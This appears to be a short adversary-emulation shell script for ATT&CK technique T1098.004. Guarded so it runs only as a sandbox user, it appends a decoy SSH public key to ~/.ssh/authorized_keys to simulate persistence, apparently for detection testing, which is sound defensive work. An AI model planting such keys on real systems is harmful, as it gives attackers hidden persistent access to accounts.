#!/bin/sh
# technique: T1098.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p "$HOME/.ssh"; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDecoyDecoyDecoyDecoyDecoyDecoyDecoyDecoyDeco x' >> "$HOME/.ssh/authorized_keys"
